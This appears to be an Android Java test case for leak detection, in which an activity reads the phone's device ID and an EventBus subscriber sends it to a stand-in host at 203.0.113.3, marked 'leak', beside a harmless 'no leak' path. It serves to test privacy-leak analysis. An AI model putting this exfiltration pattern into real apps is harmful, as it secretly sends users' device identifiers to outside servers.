package habits;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.net.URL;
import org.greenrobot.eventbus.EventBus;
import org.greenrobot.eventbus.Subscribe;

/** Events of two kinds. */
public class Bus extends Activity {
    static final class Found {
        final String what;

        Found(String what) {
            this.what = what;
        }
    }

    static final class Started {
        final String what;

        Started(String what) {
            this.what = what;
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        EventBus.getDefault().register(this);
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        EventBus.getDefault().post(new Found(phone.getDeviceId()));
        EventBus.getDefault().post(new Started("now"));
    }

    @Subscribe
    public void found(Found event) {
        try {
            new URL("http://203.0.113.3/f/" + event.what).openStream(); // leak
        } catch (Exception ignored) {
        }
    }

    @Subscribe
    public void started(Started event) {
        try {
            new URL("http://203.0.113.3/s/" + event.what).openStream(); // no leak
        } catch (Exception ignored) {
        }
    }
}
